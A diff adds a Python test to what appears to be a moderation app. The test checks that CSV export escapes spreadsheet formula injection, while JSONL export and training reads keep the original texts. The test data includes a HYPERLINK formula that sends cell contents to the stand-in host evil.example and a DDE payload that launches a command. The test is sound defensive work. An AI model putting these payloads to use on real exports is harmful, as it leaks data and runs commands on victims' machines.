@@ -146,3 +146,29 @@ def test_round_trip_export_load_train_score(app, app_config, monkeypatch, tmp_pa
                                        "--span-posts", "0"])
     assert result.exit_code == 0, result.output
     assert "| labels.csv (abusive) | human | 50 (20) |" in (report / "report.md").read_text()   # rows (abusive)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", "'already quoted", "plain text"]
+
+
+def test_csv_export_neutralises_formulas_and_jsonl_is_unchanged(app, app_config, monkeypatch, tmp_path, client):
+    import csv
+    import io
+    pks = [add_held(app, 1, text=text)[0] for text in FORMULAS]
+    add_user(app, "boss", role="admin")
+    for pk in pks:
+        decide(app, pk, "reject")
+    login(client, "boss")
+    sheet = list(csv.DictReader(io.StringIO(client.get("/review/export?format=csv").get_data(as_text=True),
+                                            newline="")))
+    cells = [value for row in sheet for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
+    assert [row["text"] for row in sheet] == ["'" + t for t in FORMULAS[:-1]] + ["plain text"]
+    lines = client.get("/review/export?format=jsonl").get_data(as_text=True).splitlines()
+    assert [json.loads(line)["text"] for line in lines] == FORMULAS
+    # and training reads the original texts back from the CSV
+    out = tmp_path / "labels.csv"
+    run_export(app, app_config, monkeypatch, tmp_path, "--format", "csv", "-o", str(out))
+    df, errors = load_labelled_export(out)
+    assert errors == [] and list(df["text"]) == FORMULAS
